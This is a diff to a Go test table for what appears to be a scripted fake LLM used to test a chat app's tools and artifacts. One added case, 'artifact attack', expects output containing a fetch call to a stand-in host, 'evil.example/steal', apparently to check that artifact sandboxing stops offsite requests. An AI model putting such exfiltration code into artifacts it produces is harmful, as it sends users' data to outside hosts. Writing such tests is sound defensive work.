@@ -53,13 +53,13 @@ func TestScript(t *testing.T) {
 		{"time travel repeats the tool", llmtest.Request{Messages: []llmtest.Message{user("time travel: look it up"), {Role: "tool", Content: "edited by hand"}}, Tools: chatTools}, "", "The tool said: edited by hand"},
 		{"make an artifact calls create_artifact", llmtest.Request{Messages: []llmtest.Message{user("Please make an artifact")}, Tools: []string{"create_artifact"}}, "create_artifact", ""},
 		{"make an artifact says what the tool said", llmtest.Request{Messages: []llmtest.Message{user("Please make an artifact"), {Role: "tool", Content: "shown as version 1"}}, Tools: []string{"create_artifact"}}, "", "The tool said: shown as version 1"},
-		{"artifact v2 is a page saying v2 whose script writes", llmtest.Request{Messages: []llmtest.Message{user("artifact v2")}, Tools: chatTools}, "", "<title>Artifact v2</title>"},
-		{"artifact v3 is another version", llmtest.Request{Messages: []llmtest.Message{user("Now artifact v3 please")}}, "", "textContent = 'script ran'"},
 		{"mermaid", llmtest.Request{Messages: []llmtest.Message{user("draw a mermaid diagram")}, Tools: chatTools}, "", "```mermaid\nflowchart TD\n"},
 		{"run code calls run_code", llmtest.Request{Messages: []llmtest.Message{user("Please run code: primes by last digit")}, Tools: []string{"run_code"}}, "run_code", ""},
 		{"run code corrects the script", llmtest.Request{Messages: []llmtest.Message{user("Please run code: primes"), {Role: "tool", Content: "Error at line 7:26: undefined: count"}}, Tools: []string{"run_code"}}, "run_code", ""},
 		{"run code answers after the chart", llmtest.Request{Messages: []llmtest.Message{user("Please run code: primes"), tool, tool}, Tools: []string{"run_code"}}, "", "46 primes below 200"},
 		{"run code without the tool", llmtest.Request{Messages: []llmtest.Message{user("Please run code: primes")}, Tools: chatTools}, "", "cannot run code"},
+		{"artifact versions", llmtest.Request{Messages: []llmtest.Message{user("Show artifact v2 please")}}, "", "<title>Counter</title>"},
+		{"artifact attack", llmtest.Request{Messages: []llmtest.Message{user("artifact attack fetch-offsite")}}, "", "fetch('http://evil.example/steal"},
 		{"write a file done", llmtest.Request{Messages: []llmtest.Message{user("Please write a file named a-1.txt"), {Role: "tool", Content: "wrote 27 bytes"}}, Tools: []string{"write_file"}}, "", "Finished writing a-1.txt"},
 	}
 	for _, tt := range tests {
